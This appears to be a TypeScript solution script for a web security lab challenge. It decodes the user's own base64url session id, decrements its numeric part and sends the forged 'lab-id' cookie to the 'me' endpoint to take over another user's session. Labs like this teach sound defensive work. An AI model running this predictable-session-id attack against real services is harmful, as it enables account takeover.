import type { Solve } from '../challenge'

export const solve: Solve = async ({ computer }) => {
  const own = (await computer({ method: 'POST', path: 'login' })).json().id ?? ''
  const [word = '', number = ''] = Buffer.from(own, 'base64url').toString().split('-')
  const guess = Buffer.from(`${word}-${Number(number) - 1}`).toString('base64url')
  await computer({ path: 'me', cookie: `lab-id=${guess}` })
}
